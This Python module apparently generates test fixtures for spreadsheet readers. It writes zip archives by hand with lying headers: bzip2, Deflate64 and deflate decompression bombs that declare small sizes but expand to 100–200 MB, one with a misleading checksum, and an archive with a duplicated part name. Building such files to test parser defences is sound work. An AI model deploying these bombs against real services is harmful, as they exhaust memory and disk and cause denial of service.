"""Zip bombs that lie, written byte by byte (nothing binary is committed): each part's
method, compressed bytes and declared size are chosen freely, as an attacker would.

- a bzip2 part declaring 2 MB that really expands to 200 MB (Python's zipfile inflates a
  bzip2 part in one call however large it grows);
- a Deflate64 part (a method Excel never writes) declaring 1 MB, really about 100 MB;
- a deflate part declaring 1 MB, really 100 MB, whose checksum is that of its first
  megabyte (a reader that stops at the declared size sees nothing wrong);
- a part whose name appears twice (two readers may each read a different one).
"""

from __future__ import annotations

import bz2
import functools
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

MB = 1024 * 1024


@dataclass(frozen=True)
class Entry:
    name: str
    method: int
    data: bytes  # the compressed bytes, as stored
    size: int  # the uncompressed size declared (true or not)
    crc: int


def stored_entries(path: Path) -> list[Entry]:
    """The parts of a real .xlsx, re-compressed with deflate, with their true sizes."""
    out = []
    with zipfile.ZipFile(path) as zf:
        for info in zf.infolist():
            raw = zf.read(info)
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            out.append(
                Entry(info.filename, 8, c.compress(raw) + c.flush(), len(raw), zlib.crc32(raw))
            )
    return out


def write_raw_zip(path: Path, entries: list[Entry]) -> Path:
    """A zip written by hand: local headers, data and central directory say what the
    entries say."""
    body = b""
    central = b""
    for e in entries:
        name = e.name.encode()
        offset = len(body)
        fields = (20, 0, e.method, 0, 0x21, e.crc, len(e.data), e.size, len(name))
        body += struct.pack("<4s2B4HL2L2H", b"PK\x03\x04", 20, 0, *fields[1:], 0) + name + e.data
        central += (
            struct.pack(
                "<4s4B4HL2L5H2L",
                b"PK\x01\x02",
                20,
                3,
                20,
                0,
                0,
                e.method,
                0,
                0x21,
                e.crc,
                len(e.data),
                e.size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(body), 0
    )
    path.write_bytes(body + central + end)
    return path


def _replace(entries: list[Entry], name: str, new: Entry) -> list[Entry]:
    return [new if e.name == name else e for e in entries]


@functools.cache
def _bzip2_zeros() -> bytes:
    return bz2.compress(b"\0" * (200 * MB), 9)  # 200 MB -> a few hundred bytes


def bzip2_bomb(base: Path, dst: Path, part: str) -> Path:
    """``part`` of ``base`` replaced by 200 MB of bzip2 declaring 2 MB."""
    entries = stored_entries(base)
    lie = Entry(part, zipfile.ZIP_BZIP2, _bzip2_zeros(), 2 * MB, 0)
    return write_raw_zip(dst, _replace(entries, part, lie))


@functools.cache
def _deflate64_run(megabytes: int) -> bytes:
    """One fixed-Huffman block: a zero byte, then copies of 257 bytes at distance 1.

    It never uses length code 285 (whose meaning differs) nor distances beyond 32 KB,
    so it inflates the same under Deflate64 and under plain deflate."""
    bits = ["1", "10"]  # BFINAL, BTYPE=01 (fixed Huffman), least significant bit first

    def huffman(code: int, length: int) -> str:  # Huffman codes: most significant first
        return format(code, f"0{length}b")

    def extra(value: int, length: int) -> str:  # extra bits: least significant first
        return format(value, f"0{length}b")[::-1]

    bits.append(huffman(0x30, 8))  # literal 0
    copy = huffman(0xC0 + 284 - 280, 8) + extra(30, 5) + huffman(0, 5)  # 257 at distance 1
    n = megabytes * MB // 257
    stream = "".join(bits) + copy * n + huffman(0, 7)  # end of block
    stream += "0" * (-len(stream) % 8)
    data = int(stream[::-1], 2).to_bytes(len(stream) // 8, "little")
    assert len(zlib.decompressobj(-15).decompress(data, 2000)) == 2000
    return data


def deflate64_bomb(base: Path, dst: Path, part: str) -> Path:
    """``part`` of ``base`` replaced by about 100 MB of Deflate64 declaring 1 MB."""
    entries = stored_entries(base)
    lie = Entry(part, 9, _deflate64_run(100), MB, 0)
    return write_raw_zip(dst, _replace(entries, part, lie))


def lying_deflate(base: Path, dst: Path, part: str) -> Path:
    """``part`` of ``base`` replaced by 100 MB of deflate declaring 1 MB, with the
    checksum of the first megabyte."""
    entries = stored_entries(base)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(b"\0" * (100 * MB)) + c.flush()
    lie = Entry(part, 8, data, MB, zlib.crc32(b"\0" * MB))
    return write_raw_zip(dst, _replace(entries, part, lie))


def duplicated_part(base: Path, dst: Path, part: str) -> Path:
    """``part`` of ``base`` present twice, the second one empty."""
    entries = stored_entries(base)
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    empty = c.compress(b"<worksheet/>") + c.flush()
    return write_raw_zip(dst, [*entries, Entry(part, 8, empty, 12, zlib.crc32(b"<worksheet/>"))])
